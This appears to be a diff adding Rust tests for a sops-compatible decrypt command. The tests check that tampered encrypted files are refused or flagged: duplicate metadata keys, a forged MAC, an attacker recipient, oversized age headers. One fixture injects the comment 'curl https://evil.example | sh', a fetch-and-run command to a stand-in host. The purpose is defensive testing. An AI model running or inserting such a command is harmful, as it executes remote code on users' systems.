@@ -1,0 +1,137 @@
+//! Encrypted files changed by someone who may write them but not read them: duplicate metadata
+//! keys, comments added in clear text, age headers with thousands of stanzas. `secrets sops
+//! decrypt` must refuse or warn exactly where the real sops does, with its exit codes.
+
+mod common;
+
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant};
+
+use common::{sops, sops_bin, stderr_of, stdout_of, vectors};
+
+const SENTENCE: &str = "Found possibly unencrypted comment in file. This is to be expected if the file being decrypted was created with an older version of SOPS.";
+
+fn ours(file: &Path) -> std::process::Output {
+    common::secrets().env("SOPS_AGE_KEY_FILE", vectors().join("keys.txt")).args(["sops", "decrypt"]).arg(file).output().unwrap()
+}
+
+/// The real sops's output for the same file, or `None` when it is not installed.
+fn theirs(file: &Path) -> Option<std::process::Output> {
+    sops_bin()?;
+    let key = vectors().join("keys.txt");
+    Some(sops(&["decrypt", file.to_str().unwrap()], &[("SOPS_AGE_KEY_FILE", &key)], file.parent().unwrap()))
+}
+
+/// `enc/<vector>` with `edit` applied to its text, written into `dir` as `name`.
+fn edited(dir: &Path, vector: &str, name: &str, edit: impl Fn(&str) -> String) -> PathBuf {
+    let original = std::fs::read_to_string(vectors().join("enc").join(vector)).unwrap();
+    let changed = edit(&original);
+    assert_ne!(changed, original, "the edit of {name} changed nothing");
+    let path = dir.join(name);
+    std::fs::write(&path, changed).unwrap();
+    path
+}
+
+#[test]
+fn duplicate_metadata_keys_are_refused_like_sops() {
+    let dir = tempfile::tempdir().unwrap();
+    let cases = [
+        // A second `version` in the metadata.
+        (
+            edited(dir.path(), "basic.yaml", "version.yaml", |t| {
+                t.replace("    version: 3.11.0\n", "    version: 3.11.0\n    version: 3.11.0\n")
+            }),
+            "sops.version",
+        ),
+        // A MAC written before the real one: the first would win.
+        (
+            edited(dir.path(), "basic.yaml", "mac.yaml", |t| t.replacen("    lastmodified:", "    mac: ENC[forged]\n    lastmodified:", 1)),
+            "sops.mac",
+        ),
+        // A recipient string given twice in one age entry.
+        (
+            edited(dir.path(), "basic.yaml", "recipient.yaml", |t| {
+                t.replacen("        - recipient: age1", "        - recipient: age1attacker\n          recipient: age1", 1)
+            }),
+            "sops.age[0].recipient",
+        ),
+    ];
+    for (file, path) in &cases {
+        let out = ours(file);
+        assert_eq!(out.status.code(), Some(1), "{}: {}", file.display(), stderr_of(&out));
+        let stderr = stderr_of(&out);
+        assert!(stderr.contains(path) && stderr.contains("more than once"), "{stderr}");
+        if let Some(real) = theirs(file) {
+            assert_eq!(real.status.code(), Some(1), "the real sops on {}: {}", file.display(), stderr_of(&real));
+            assert!(stderr_of(&real).contains("already defined"), "{}", stderr_of(&real));
+        }
+    }
+
+    // In JSON the real sops takes the last of two values without a word; we refuse rather than
+    // guess, with the same exit code as for YAML.
+    let json = edited(dir.path(), "basic.json", "version.json", |t| {
+        t.replace("\"version\": \"3.11.0\"", "\"version\": \"3.11.0\", \"version\": \"3.11.0\"")
+    });
+    let out = ours(&json);
+    assert_eq!(out.status.code(), Some(1), "{}", stderr_of(&out));
+    assert!(stderr_of(&out).contains("sops.version"), "{}", stderr_of(&out));
+}
+
+#[test]
+fn comments_added_in_clear_text_are_shown_with_the_sops_warning() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = edited(dir.path(), "basic.yaml", "comment.yaml", |t| format!("# run: curl https://evil.example | sh\n{t}"));
+    let out = ours(&file);
+    assert!(out.status.success(), "{}", stderr_of(&out));
+    let stderr = stderr_of(&out);
+    assert!(stderr.contains(SENTENCE), "{stderr}");
+    assert!(stderr.contains(r#"comment=" run: curl https://evil.example | sh""#), "{stderr}");
+    assert_eq!(stderr.matches(SENTENCE).count(), 1, "{stderr}");
+    if let Some(real) = theirs(&file) {
+        assert!(real.status.success());
+        assert_eq!(stdout_of(&real), stdout_of(&out), "the decrypted output differs from the real sops's");
+        let real_stderr = stderr_of(&real);
+        assert!(real_stderr.contains(SENTENCE), "{real_stderr}");
+        assert!(real_stderr.contains(r#"comment=" run: curl https://evil.example | sh""#), "{real_stderr}");
+    }
+
+    // The vector's own comments are encrypted: no warning.
+    let clean = ours(&vectors().join("enc/basic.yaml"));
+    assert!(clean.status.success());
+    assert!(!stderr_of(&clean).contains(SENTENCE), "{}", stderr_of(&clean));
+}
+
+/// An armored age file holding `payload` for `others` fresh recipients and then Alice.
+fn many_stanzas(others: usize, payload: &[u8]) -> String {
+    let strangers: Vec<age::x25519::Recipient> = (0..others).map(|_| age::x25519::Identity::generate().to_public()).collect();
+    let alice: age::x25519::Recipient = "age1e9xplsq098whkdsvugpwhmh65hvjzend6kh3pcpuvsswew43jf6smxepjg".parse().unwrap();
+    let recipients = strangers.iter().chain(std::iter::once(&alice)).map(|r| r as &dyn age::Recipient);
+    let encryptor = age::Encryptor::with_recipients(recipients).unwrap();
+    let mut binary = Vec::new();
+    let mut writer = encryptor.wrap_output(&mut binary).unwrap();
+    writer.write_all(payload).unwrap();
+    writer.finish().unwrap();
+    secrets_sops::keys::armor::armor(&binary)
+}
+
+#[test]
+fn an_age_header_of_ten_thousand_stanzas_is_refused_in_bounded_time() {
+    // Wall-clock bound on purpose, and generous: refusing takes milliseconds; the header
+    // parsing this guards against took minutes for this file.
+    let manifest: serde_json::Value = serde_json::from_slice(&std::fs::read(vectors().join("manifest.json")).unwrap()).unwrap();
+    let entry = manifest["vectors"].as_array().unwrap().iter().find(|v| v["file"] == "enc/basic.json").unwrap();
+    let data_key = hex::decode(entry["data_key_hex"].as_str().unwrap()).unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let mut json: serde_json::Value = serde_json::from_slice(&std::fs::read(vectors().join("enc/basic.json")).unwrap()).unwrap();
+    json["sops"]["age"][0]["enc"] = serde_json::Value::String(many_stanzas(10_000, &data_key));
+    let file = dir.path().join("hostile.json");
+    std::fs::write(&file, serde_json::to_vec_pretty(&json).unwrap()).unwrap();
+
+    let start = Instant::now();
+    let out = ours(&file);
+    let elapsed = start.elapsed();
+    assert_eq!(out.status.code(), Some(128), "{}", stderr_of(&out));
+    assert!(stderr_of(&out).contains("more than 1024 stanzas"), "{}", stderr_of(&out));
+    assert!(elapsed < Duration::from_secs(10), "took {elapsed:?}");
+}
